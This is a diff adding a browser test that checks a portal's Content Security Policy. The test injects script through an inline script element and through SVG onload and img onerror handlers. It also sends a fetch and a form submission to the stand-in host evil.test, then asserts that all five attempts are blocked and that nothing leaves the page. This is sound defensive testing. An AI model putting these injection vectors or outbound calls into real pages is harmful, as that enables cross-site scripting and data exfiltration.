@@ -162,6 +162,26 @@ describe.skipIf(!findChromium())("the portal", () => {
     }
   });
 
+  test.each(["index", referencePage])("a script that gets into %s does not run, and nothing leaves", async (name) => {
+    const { page, requests, complaints } = await open(name);
+    const before = requests.length;
+    await page.evaluate(`
+      const code = "window.isEvil = true";
+      const script = document.createElement("script");
+      script.textContent = code;
+      document.body.append(script);
+      document.body.insertAdjacentHTML("beforeend", "<svg onload='" + code + "'></svg><img src='data:,' onerror='" + code + "'>");
+      fetch("https://evil.test/").catch(() => {});
+      document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.test/'></form>");
+      document.forms[0].submit();
+    `);
+    // The two handlers, the script, the request and the form.
+    await expect.poll(() => complaints.filter((one) => one.includes("Content Security Policy")).length).toBe(5);
+    expect(await page.evaluate("window.isEvil")).toBeUndefined();
+    expect(elsewhere(requests.slice(before))).toEqual([]);
+    await page.close();
+  });
+
   test("the search finds KCT, 9mobile, 422 and an operation", async () => {
     const { page, requests, complaints } = await open("index");
     /** Until the list is that of these words, it is the one before. */
